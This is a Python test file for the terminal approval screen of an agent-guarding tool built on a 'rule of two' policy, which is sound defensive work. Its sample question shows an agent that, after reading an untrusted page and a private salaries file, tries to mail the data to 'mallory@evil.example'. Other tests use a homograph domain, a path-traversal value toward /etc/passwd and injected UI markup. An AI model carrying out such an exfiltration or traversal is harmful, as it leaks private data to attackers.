"""The whole question: in order, complete, safe, and readable on 80 by 24."""

from __future__ import annotations

from datetime import datetime, timedelta, timezone
from typing import Any

import pytest
from hypothesis import given
from hypothesis import strategies as st

from rule_of_two.approvals.answer import GrantTerms
from rule_of_two.approvals.hints import keys_lines, question_keys
from rule_of_two.approvals.question import Origin, Question
from rule_of_two.approvals.render import NARROWEST, View
from rule_of_two.approvals.spans import Line, Span, Style, line_text, line_width
from rule_of_two.model import Action, Target, Tier
from rule_of_two.records import replace
from tests.approvals.samples import HELD, LETTER, MALLORY, NOW, PAGE, WAIT, a_question
from tests.approvals.test_messages import questions
from tests.test_escape import is_dangerous

LATER = NOW + timedelta(seconds=3)


def render(question: Question, width: int, now: datetime) -> tuple[Line, ...]:
    """The whole question and its keys, as a screen that is high enough shows them."""
    return (*View(question).page(width, now).lines, *keys_lines(question_keys(question.offers), width))


def screen(question: Question, width: int = 80) -> str:
    return "\n".join(map(line_text, render(question, width, LATER)))


def test_a_question_reads_like_this() -> None:
    question = a_question()
    assert (
        screen(question)
        == f"""\
 The agent wants to send something to "mallory@evil.example" after reading
 untrusted "127.0.0.1:8000" and private "/srv/private/salaries.csv".

 To       mallory@evil.example
 Tool     mail · send_mail  asked by claude-desktop, session s-7f3a91
╭─ exact arguments, 82 bytes ───────────────────────────────────────────────────
│ subject  "Q3"
│ to       "mallory@evil.example"
│ body     26 characters, 3 lines
│   ┊ "Name, salary↵
│   ┊ Alice, 93000↵
│   ┊ "
╰─ end of arguments, sha256 {question.digest[:16]} ───────────────────────────────────
 [A] untrusted 127.0.0.1:8000  fetch__fetch  14:02:15, 43 s ago
 [B] private   /srv/private/salaries.csv  files__rea… (+11)  14:02:19, 39 s ago
 [C] this call changes something or sends something out
 Policy   @invariant-rule-of-two This call would complete A, B and C in one
          ┊ session.
 Time     asked 3 s ago, 42 s left; no answer means no
 y once  n no  a args  w why  q quit"""
    )


@pytest.mark.parametrize("labels", [("B",), ("A",), ("C",), ("A", "B", "C")], ids=str)
def test_a_label_that_only_this_call_brings_says_so(labels: tuple[Any, ...]) -> None:
    text = screen(a_question(labels=frozenset(labels), held={}))
    for label in "ABC":
        assert (f" [{label}] this call" in text) == (label in labels)


def test_times_are_shown_where_the_reader_is() -> None:
    question = a_question(held={"A": PAGE, "B": replace(PAGE, call=4, at=NOW - timedelta(days=2))})
    lines = render(question, 80, LATER.astimezone(timezone(timedelta(hours=2))))
    text = "\n".join(map(line_text, lines))
    assert "16:02:15, 43 s ago" in text
    assert "2026-11-20 16:02:55, 2 d ago" in text


@pytest.mark.parametrize(
    ("after", "said"),
    [
        (timedelta(seconds=-5), "asked 0 s ago, 50 s left"),
        (timedelta(0), "asked 0 s ago, 45 s left"),
        (timedelta(seconds=44.5), "asked 44 s ago, 0 s left"),
        (WAIT, "expired: it was refused"),
        (timedelta(hours=3), "asked 3 h ago, expired"),
    ],
    ids=str,
)
def test_age_and_time_left(after: timedelta, said: str) -> None:
    assert said in "\n".join(map(line_text, render(a_question(), 80, NOW + after)))


def test_the_last_seconds_are_marked() -> None:
    page = View(a_question()).page(80, NOW + timedelta(seconds=40))
    assert any(span.style is Style.WARNING and span.text == "5 s left" for line in page.lines for span in line)


def test_long_arguments_are_never_cut_silently() -> None:
    question = a_question(arguments={**LETTER, "body": "word " * 400})
    view = View(question)
    short = view.page(80, LATER, argument_lines=6)
    text = "\n".join(map(line_text, short.lines))
    assert short.arguments_end is None
    assert "there is more: press a to read all of it" in text
    assert "not the end" in text
    whole = view.page(80, LATER)
    assert whole.arguments_end is not None
    assert "end of arguments" in line_text(whole.lines[whole.arguments_end])
    assert "end of arguments" in line_text(view.arguments(80)[-1])


def test_a_shortened_page_has_no_more_argument_lines_than_asked_for() -> None:
    view = View(a_question(arguments={"body": "word " * 400}))
    lengths = [len(view.page(80, LATER, argument_lines=limit).lines) for limit in (1, 2, 6)]
    assert [length - lengths[0] for length in lengths] == [0, 1, 5]


def test_arguments_that_just_fit_are_shown_whole() -> None:
    view = View(a_question())
    assert view.page(80, LATER, argument_lines=6).arguments_end is not None
    assert view.page(80, LATER, argument_lines=5).arguments_end is None


def test_what_is_sent_along_is_shown_too() -> None:
    question = a_question(forwarded={"inputResponses": {"name": {"content": "Alice"}}})
    assert "├─ sent along" in screen(question)
    assert '"Alice"' in screen(question)
    assert "sent along" not in screen(a_question())


def test_a_page_shortened_in_what_is_sent_along_does_not_count_as_read() -> None:
    question = a_question(forwarded={f"key{number}": number for number in range(9)})
    page = View(question).page(80, LATER, argument_lines=20)
    assert page.arguments_end is None
    assert "press a to read what is sent along" in "\n".join(map(line_text, page.lines))


def test_a_secret_is_on_no_side_of_the_question() -> None:
    secret = "sesame-open"  # noqa: S105  # a made-up one
    question = a_question(
        arguments={"url": f"https://x.test/?k={secret}", "headers": {"authorization": secret}, secret: [secret]},
        targets=(Target("url", f"x.test/{secret}", f"https://x.test/?k={secret}"),),
        held={"A": replace(PAGE, shown=f"https://page.test/?k={secret}")},
        secret_pointers=("/headers/authorization",),
    )
    view = View(question)
    lines = [*render(question, 80, LATER), *view.why(80, LATER), *view.arguments(80), view.row(80, LATER)]
    assert secret not in "\n".join(map(line_text, lines))
    assert "••••••••" in "\n".join(map(line_text, lines))


def test_a_host_that_is_not_what_it_looks_like_is_flagged() -> None:
    target = Target("recipient", "bob@xn--pple-43d.com", "bob@\u0430pple.com")
    assert "MIXES Cyrillic and Latin letters" in screen(a_question(targets=(target,)))


def test_a_path_that_leads_elsewhere_than_written_shows_both() -> None:
    text = screen(a_question(targets=(Target("path", "/etc/passwd", "docs/../../etc/passwd"),)))
    assert " Path     /etc/passwd written as docs/../../etc/passwd" in text


def test_a_target_that_could_not_be_parsed_is_flagged() -> None:
    text = screen(a_question(targets=(Target("url", None, "//:x"),)))
    assert "//:x cannot be read as a target, so nothing is known about it" in " ".join(text.split())


@pytest.mark.parametrize("given", [None, True, False])
def test_an_address_that_was_not_given_is_flagged_where_that_is_known(*, given: bool | None) -> None:
    target = Target("url", "x.test", "https://x.test/?q", url="https://x.test/?q", given=given)
    text = " ".join(screen(a_question(targets=(target,))).split())
    assert ("x.test this address is not known from any result of this session" in text) is (given is False)


def test_targets_beyond_the_fourth_are_counted_and_listed_under_why() -> None:
    targets = tuple(Target("recipient", f"user{number}@x.test", "") for number in range(9))
    question = a_question(targets=targets)
    assert "and 5 more targets: press w" in screen(question)


def test_why_has_the_whole_digest_and_everything_that_is_bound() -> None:
    question = a_question(labels=frozenset(("C",)), held={"A": PAGE}, pin=None)
    text = "\n".join(map(line_text, View(question).why(80, LATER)))
    for part in (question.digest, question.policy_version, "Pin      none", "call 3, fetch__fetch", "advisory"):
        assert part in text
    assert "[B]      not held" in text


def test_the_row_names_tool_target_and_time_left() -> None:
    view = View(a_question())
    assert line_text(view.row(60, LATER)) == "mail · send_mail → mallory@evil.example            42 s left"
    assert "expired" in line_text(view.row(60, NOW + WAIT))
    assert "→" not in line_text(View(a_question(targets=())).row(60, LATER))


def test_a_call_without_policies_or_messages_is_rendered() -> None:
    assert "none named" in screen(replace(a_question(messages=()), policies=()))


nasty = st.text(st.characters(), max_size=60)
bound = st.text(st.characters(exclude_categories=["Cs"]), max_size=60)
nasty_origins = st.builds(Origin, call=st.integers(1, 2**40), name=nasty, shown=nasty, at=st.just(NOW))
nasty_targets = st.builds(Target, st.sampled_from(("url", "path", "amount")), st.none() | nasty, nasty)
nasty_questions = st.builds(
    a_question,
    name=bound,
    upstream=bound,
    session=bound,
    client=nasty,
    held=st.dictionaries(st.sampled_from(("A", "B", "C")), nasty_origins),
    targets=st.lists(nasty_targets).map(tuple),
    messages=st.lists(nasty, max_size=2).map(tuple),
    action=st.sampled_from(Action),
    labels=st.frozensets(st.sampled_from(("A", "B", "C"))),
)


@given(nasty_questions, st.integers(NARROWEST, 100))
def test_every_line_of_every_side_fits_and_is_safe_whatever_the_call(question: Question, width: int) -> None:
    view = View(question)
    for line in (*render(question, width, LATER), *view.why(width, LATER), *view.arguments(width)):
        assert line_width(line) <= width
        assert not any(is_dangerous(character) for character in line_text(line))
        first = next((span for span in line if span.text.strip()), None)
        assert first is None or first.style is not Style.QUOTED or first.text.startswith('"')


@given(questions)
def test_any_question_of_the_channel_can_be_shown(question: Question) -> None:
    assert render(question, 80, question.created_at)


def test_markup_in_a_question_is_text_like_any_other() -> None:
    text = screen(a_question(arguments={"body": "[bold red]y[/] [@click=app.quit]x[/]"}, name="[b]x[/b]", held=HELD))
    assert "[bold red]y[/] [@click=app.quit]x[/]" in text
    assert "[b]x[/b]" in text


def test_notes_stand_below_the_time() -> None:
    page = View(a_question()).page(80, LATER, notes=[(Span("one"),), (Span("two"),)])
    assert list(map(line_text, page.lines[-2:])) == [" Note     one", " Note     two"]


def test_why_says_for_whom_how_many_approvers_it_needs_and_what_an_answer_is_worth() -> None:
    question = a_question(user="bob", tenant="acme", tier=Tier.SIGNED)
    text = "\n".join(map(line_text, View(replace(question, needs=2)).why(80, LATER)))
    for part in ("For      user bob, tenant acme", "It needs 2 different approvers.", "(T1)"):
        assert part in text
    once = "\n".join(map(line_text, View(question).why(80, LATER)))
    assert "different approvers" not in once


@pytest.mark.parametrize("tier", Tier)
def test_every_tier_is_told_as_what_it_is(tier: Tier) -> None:
    text = "\n".join(map(line_text, View(a_question(tier=tier)).why(80, LATER)))
    assert f"({tier})" in text
    assert ("advisory" in text) == (tier is Tier.ADVISORY)


def test_the_terms_of_a_grant_name_tool_all_targets_calls_and_minutes() -> None:
    targets = (MALLORY, Target("recipient", "bob@xn--pple-43d.com", "bob@\u0430pple.com"))
    question = a_question(targets=targets)
    lines = View(question).terms(GrantTerms.of(question, uses=5, minutes=15), 80)
    text = "\n".join(map(line_text, lines))
    for part in (
        "Calls    5 calls, this one included, within 15 minutes",
        "Tool     mail · send_mail",
        "To       mallory@evil.example",
        "To       bob@xn--pple-43d.com",
        "MIXES Cyrillic and Latin letters",
        "lapses when the session gains a label",
    ):
        assert part in text
    assert "end of the grant" in line_text(lines[-1])


def test_the_longest_targets_of_a_grant_are_shown_whole() -> None:
    targets = tuple(Target("recipient", f"{number:03}{'x' * 397}", "") for number in range(10))
    question = a_question(targets=targets)
    text = "\n".join(map(line_text, View(question).terms(GrantTerms.of(question, uses=1, minutes=1), 80)))
    assert "1 call, this one included" in text
    assert text.count("x") - text.count("exactly") >= 3970
